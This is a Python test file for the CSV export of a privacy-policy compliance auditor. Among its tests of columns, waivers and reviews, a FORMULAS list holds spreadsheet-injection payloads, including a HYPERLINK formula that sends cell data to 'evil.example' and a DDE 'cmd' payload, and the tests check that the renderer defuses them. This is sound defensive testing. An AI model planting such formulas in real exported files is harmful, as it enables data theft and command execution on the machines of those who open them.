"""The gap register: fixed columns, a row for each open point, and no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from auditor.model.audit import Audit, Failure, Run
from auditor.model.document import Evidence, NearMiss
from auditor.model.vocabulary import GAPS, Outcome, Truth
from auditor.renderers import csv as register
from auditor.reporting import wording
from tests import audits
from tests.renderers import decided

COLUMNS = [
    "document", "requirement", "ruleset", "regulation", "title", "citations", "kind", "severity", "outcome",
    "qualifier", "blocks", "blocks_because", "waived", "waiver_owner", "waiver_expires", "waiver_reason",
    "baseline", "what_is_missing", "elements", "line", "section", "quotation", "nearest_passage", "remediation",
    "model_clause", "points", "confidence", "verification", "as_of", "ruleset_version", "reviewed",
]  # fmt: skip
TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20\t\r"


def rows(run: Run) -> list[dict[str, str]]:
    text = register.render_run(run).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def row(audit: Audit, requirement: str) -> dict[str, str]:
    [found] = [
        one for one in rows(Run((audit,))) if one["requirement"] == requirement and one["ruleset"]
    ]
    return found


def test_columns_and_their_order_are_fixed() -> None:
    first = register.render(decided.plain()).decode("utf-8-sig").splitlines()[0]

    assert first.split(",") == COLUMNS


def test_file_begins_with_a_byte_order_mark_for_excel() -> None:
    content = register.render(decided.plain())

    assert content.startswith(b"\xef\xbb\xbfdocument,")
    assert content.count(b"\xef\xbb\xbf") == 1


def test_every_record_is_one_line_that_ends_in_crlf() -> None:
    content = register.render_run(decided.mixed()).decode("utf-8-sig")

    assert content.endswith("\r\n")
    assert len(content.split("\r\n")) - 2 == len(rows(decided.mixed()))
    assert not re.search(r"[\r\n]", content.replace("\r\n", ""))


def test_every_gap_and_every_review_that_applies_has_one_row() -> None:
    audit = decided.plain()

    found = [
        (one["requirement"], one["outcome"])
        for one in rows(Run((audit,)))
        if one["outcome"] != "observation"
    ]

    assert found == [
        (f.requirement.id, f.outcome.value)
        for f in audit.findings
        if f.outcome in GAPS
        or (f.outcome is Outcome.REVIEW and f.applicability.truth is not Truth.UNKNOWN)
    ]
    assert ("HARBOUR-9-2", "review") in found
    assert "HARBOUR-7-1" not in dict(found)


def test_row_of_a_blocking_gap() -> None:
    assert row(decided.plain(), "HARBOUR-6-1") == dict.fromkeys(COLUMNS, "") | {
        "document": "policies/brightwater.txt",
        "requirement": "HARBOUR-6-1",
        "ruleset": "harbour",
        "regulation": "Harbour Act",
        "title": "A retention period for each class of data",
        "citations": "Harbour Act \u00a7 6-1",
        "kind": "mandatory",
        "severity": "high",
        "outcome": "missing",
        "blocks": "yes",
        "blocks_because": "a mandatory disclosure of high severity is missing",
        "waived": "no",
        "what_is_missing": "No period is given and no rule by which one can be found.",
        "elements": "HARBOUR-6-1.1",
        "nearest_passage": "line 23, How long we keep it: \u201cfor as long as we need it\u201d fell short: no words for \u201cperiod\u201d",
        "remediation": "Add a sentence that says it: a retention period for each class of data.",
        "model_clause": "[Company], [address], says so here and names [the details].",
        "points": "10.2",
        "confidence": "0.9",
        "verification": "secondary-source",
        "as_of": "2026-11-22",
        "ruleset_version": f"1.2.0 ({audits.digest('harbour')[:7]})",
    }


def test_defect_gives_its_first_quotation_bare_and_the_others_with_their_place() -> None:
    found = row(decided.plain(), "HARBOUR-NEG-1")

    assert (found["line"], found["section"]) == ("15", "Whom we tell")
    assert found["quotation"] == (
        "We will never share your call records without your consent. | line 14, Whom we tell: "
        "\u201cWe share usage data with our partners for their own marketing, unless you tell us not to.\u201d"
    )


def test_quotation_stands_in_the_text_on_its_line() -> None:
    audit = decided.plain()
    found = [one for one in rows(Run((audit,))) if one["quotation"]]

    lines = audit.document.text.splitlines()

    assert len(found) > 2
    for one in found:
        assert one["quotation"].split(" | ")[0] in lines[int(one["line"]) - 1]


def test_qualifier_of_a_gap_is_given() -> None:
    assert row(decided.plain(), "HARBOUR-7-2")["qualifier"] == "gap_in_document"


def test_review_asks_its_question() -> None:
    found = row(decided.plain(), "HARBOUR-9-2")

    assert found["what_is_missing"].endswith("Does the policy say how a parent consents?")
    assert found["blocks"] == "no"


@pytest.mark.parametrize(
    ("requirement", "day", "waived"),
    [
        ("HARBOUR-4-1", "2027-03-31", "yes"),
        ("HARBOUR-4-1", "2027-04-01", "expired"),
        ("HARBOUR-NEG-1", "2026-11-22", "no"),
    ],
)
def test_waived_says_how_a_waiver_stands(requirement: str, day: str, waived: str) -> None:
    assert row(decided.everything(day=day), requirement)["waived"] == waived


def test_waiver_gives_owner_last_day_and_reason_also_when_it_expired() -> None:
    found = row(decided.everything(), "HARBOUR-6-1")

    assert (found["waiver_owner"], found["waiver_expires"], found["waiver_reason"]) == (
        "Mira Lund",
        "2026-10-31",
        "periods were to be set in October",
    )
    assert found["blocks"] == "yes"


def test_gap_that_a_waiver_covers_in_part_says_so() -> None:
    audit = decided.everything()
    [use] = next(f for f in audit.findings if f.requirement.id == "HARBOUR-4-3").waivers
    findings = tuple(
        replace(f, waivers=(use,)) if f.requirement.id == "HARBOUR-5-1" else f
        for f in audit.findings
    )

    assert row(replace(audit, findings=findings), "HARBOUR-5-1")["waived"] == "in part"


def test_baseline_says_new_unchanged_or_worse() -> None:
    audit = decided.everything()

    assert {
        name: row(audit, name)["baseline"]
        for name in ("HARBOUR-6-1", "HARBOUR-NEG-1", "HARBOUR-7-2")
    } == {"HARBOUR-6-1": "new", "HARBOUR-NEG-1": "unchanged", "HARBOUR-7-2": "worse"}


def test_reviewers_decisions_are_shown() -> None:
    assert "confirmed by Ana Ruiz" in row(decided.everything(), "HARBOUR-9-2")["reviewed"]
    assert "lapsed" in row(decided.everything(), "HARBOUR-6-1")["reviewed"]


def test_decision_on_what_is_satisfied_has_a_row_too() -> None:
    audit = decided.everything()
    [use] = next(f for f in audit.findings if f.requirement.id == "HARBOUR-9-2").reviews
    findings = tuple(
        replace(f, reviews=(use,)) if f.requirement.id == "LANTERN-3" else f for f in audit.findings
    )

    assert row(replace(audit, findings=findings), "LANTERN-3")["outcome"] == "satisfied"


def test_other_decisions_follow_the_gaps() -> None:
    found = [one for one in rows(Run((decided.everything(),))) if not one["ruleset"]]

    assert [one["outcome"] for one in found] == [
        "observation", "observation",
        "attestation", "lapsed attestation", "override", "unused waiver", "left out",
    ]  # fmt: skip
    said = [one["what_is_missing"] for one in found]
    assert "The Port Accord of 2009" in said[0]
    assert "org.officer = true, attested by Tom Brandt" in said[2]
    assert "no one reads it" in said[4]
    assert "was missing once" in said[5]
    assert said[6].endswith("left out. HARBOUR-6-2")


def test_inputs_that_could_not_be_audited_stand_first() -> None:
    first, second = rows(decided.mixed())[:2]

    assert (first["document"], first["outcome"]) == ("policies/scan.pdf", "not audited")
    assert first["what_is_missing"] == "it holds no text; run it through OCR first"
    assert second["document"] == "gone.txt"


def test_documents_of_a_run_stand_in_its_order() -> None:
    named = list(dict.fromkeys(one["document"] for one in rows(decided.mixed())))

    assert named[2:] == ["policies/brightwater.txt", "policies/second.md"]


FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  \t @SUM(A1)",
    "'=1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff201",
    "harmless;=1+1",
    "harmless; \t-1",
    '";=1+1',
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_in_any_field_is_no_formula_in_its_cell(formula: str) -> None:
    found = rows(Run((hostile(formula),), (Failure(formula, formula, 3),)))

    cells = [cell for one in found for cell in one.values() if cell]
    assert any(harmless in cell for cell in cells for harmless in ("1", "SUM"))
    assert [cell for cell in cells if dangerous(cell)] == []


def hostile(words: str) -> Audit:
    audit = decided.plain()
    first = audit.findings[0]
    result = first.elements[0]
    seen = result.reading.near_misses[0].evidence
    evidence = Evidence(seen.span, words, seen.line, words)
    reading = replace(result.reading, near_misses=(NearMiss(evidence, words),))
    defect = audit.findings[3]
    quoted = replace(defect.elements[0].reading, evidence=(evidence, evidence))
    asked = replace(
        first.requirement, id=words, title=words, regulation=words, citations=(words, words),
        remediation=words, model_clause=words, verification=words,
    )  # fmt: skip
    findings = (
        replace(first, requirement=asked, reason=words, blocks_because=words, elements=(replace(result, reading=reading),)),
        *audit.findings[1:3],
        replace(defect, reason=words, elements=(replace(defect.elements[0], reading=quoted),)),
        *audit.findings[4:],
    )  # fmt: skip
    document = replace(audit.document, id=words)
    return replace(audit, document=document, findings=findings)


def dangerous(cell: str) -> bool:
    """Whether a spreadsheet might run it: also where one of another locale cuts at semicolons."""
    return any(part.strip(" \t\r\n\u00a0")[:1] in set(TRIGGERS) for part in cell.split(";") if part)


def freed(cell: str) -> str:
    """Take the guard away again, as the documentation says."""
    return re.sub(r"(^|;)'(?=[\s']*[=+\-@\uff1d\uff0b\uff0d\uff20])", r"\1", cell)


@settings(deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@;'\" \t\r\n,ab\uff1d\u00a0"), max_size=12))
def test_guard_loses_nothing_and_lets_nothing_through(words: str) -> None:
    cell = register.guarded(words)

    assert not dangerous(cell)
    assert freed(cell) == wording.on_one_line(words)


@settings(deadline=None)
@given(st.text(alphabet=st.characters(codec=None), max_size=60))
def test_any_text_comes_back_from_its_cell(words: str) -> None:
    found = rows(Run((hostile(words),)))[0]

    assert freed(found["title"]) == wording.on_one_line(words)
    assert len(found) == len(COLUMNS)


def test_harmless_text_has_no_apostrophe_before_it() -> None:
    assert register.guarded("'t is fine; it's 1 - 2") == "'t is fine; it's 1 - 2"


def test_cell_fits_the_limit_of_excel_and_says_what_was_cut() -> None:
    audit = decided.plain()
    long = replace(audit.findings[0], reason="word " * 10_000)

    found = row(replace(audit, findings=(long, *audit.findings[1:])), "HARBOUR-4-1")

    assert len(found["what_is_missing"]) < 32_767
    assert found["what_is_missing"].endswith("[cut: 17999 more characters]")


def test_characters_outside_ascii_are_kept() -> None:
    assert row(decided.plain(), "HARBOUR-6-1")["citations"] == "Harbour Act \u00a7 6-1"


def test_audit_without_gaps_gives_the_heading_alone() -> None:
    audit = decided.plain()
    kept = tuple(f for f in audit.findings if f.outcome is Outcome.SATISFIED)

    assert rows(Run((replace(audit, findings=kept, observations=()),))) == []


def test_same_run_gives_the_same_bytes() -> None:
    assert register.render_run(decided.mixed()) == register.render_run(decided.mixed())
    assert register.render(decided.plain()) == register.render_run(Run((decided.plain(),)))
